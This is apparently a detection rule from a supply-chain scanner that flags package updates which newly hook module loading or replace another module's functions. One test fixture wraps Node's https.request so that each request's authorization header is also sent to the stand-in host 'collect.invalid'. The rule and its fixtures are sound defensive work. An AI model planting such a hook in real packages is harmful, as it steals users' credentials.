"""This update replaces how modules are loaded or what another module does, as its line of releases never did.

## What it detects
Code that runs by itself and changes the loading of modules (`Module.prototype.require`, `Module._load`, import hooks)
or the built-in functions of another module, or has whatever runs traced, new to the line.

## Why it matters
Such code sees and changes what every other package of the program does. A payload uses it to wait for the one package
that it was made for, or to stay when its own module is unloaded.

## What it misses
Lines that always did it (transpilers, instrumentation, mocks); first contact, where instrumentation is as common.

## References
- Node.js documentation, `module` API; Python documentation, `sys.meta_path`
- MITRE ATT&CK T1574, Hijack Execution Flow
"""

from collections.abc import Iterator

from lazaretto.core.destination import names_host
from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, new_chains, package_json, runs_by_itself
from lazaretto.core.update import Update

CARD = Card(
    id="module-hook-added",
    title="Module loading or another module replaced",
    variants={
        "taken-away": "What is handed to a function of another module goes to an address of the code's own.",
        "autorun": "Code that runs by itself replaces module loading or a function of another module.",
        "call": "A function replaces module loading or a function of another module.",
    },
    group="hooking",
    why="It stands between all other packages of the program.",
    attack=("T1195.002", "T1574"),
)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_HOOK = (
    "const Module = require('module');\nconst load = Module.prototype.require;\n"
    "Module.prototype.require = function (id) { return load.call(this, id); };\n"
)

EXAMPLES = (
    Example(
        title="the entry file replaces require",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _HOOK + "module.exports = (a) => a;\n"},
        expect="autorun",
        at="index.js:3",
    ),
    Example(
        title="a Python package puts a finder before all others at import",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import sys\nclass Finder:\n    def find_spec(self, name, path, target=None):\n"
            "        return None\nsys.meta_path.insert(0, Finder())\nWIDTH = 2\n"
        },
        expect="autorun",
        at="pad/__init__.py:5",
    ),
    Example(
        title="what a program tells its own server is told to another as well",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const https = require('https');\nconst real = https.request;\n"
            "https.request = function (options, answer) {\n"
            "  real({ host: 'collect.invalid', path: '/' + options.headers.authorization }).end();\n"
            "  return real(options, answer);\n};\nmodule.exports = (a) => a;\n",
        },
        expect="taken-away",
        at="index.js:3",
    ),
    Example(
        title="a method that older engines lack is filled in",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n]; };\n"
            "module.exports = (a) => fetch('https://api.invalid/' + a);\n",
        },
    ),
    Example(
        title="a tool that always replaced require",
        before={"package.json": package_json("1.0.0"), "index.js": _HOOK},
        after={"package.json": package_json("1.0.1"), "index.js": _HOOK + "exports.version = 2;\n"},
    ),
    Example(
        title="a package that requires one more module",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const { builtinModules } = require('module');\n"
            "module.exports = (a) => builtinModules.includes(a);\n",
        },
    ),
)

_MESSAGES = {
    "taken-away": "replaces another's function, and sends what is handed to it to an address of its own",
    "autorun": "replaces module loading or another module's function without being called",
    "call": "replaces module loading or another module's function when it is called",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant; none at first contact."""
    tally = Tally(CARD)
    for pair in update.pairs:
        if pair.before is None:
            continue
        gone = set()
        for chain, _ in new_chains(pair, (Kind.MODULE_HOOK,), (Kind.NET_CONNECT,)):
            if chain.data and names_host(chain.sink.fact.value):
                gone.add((chain.source.path, chain.source.fact))
                tally.add("taken-away", pair, chain.source, chain.sink)
        for placed in pair.gained(Kind.MODULE_HOOK):
            if pair.is_new_kind(placed) and (placed.path, placed.fact) not in gone:
                tally.add("autorun" if runs_by_itself(placed) else "call", pair, placed)
    yield from tally.findings(_MESSAGES)
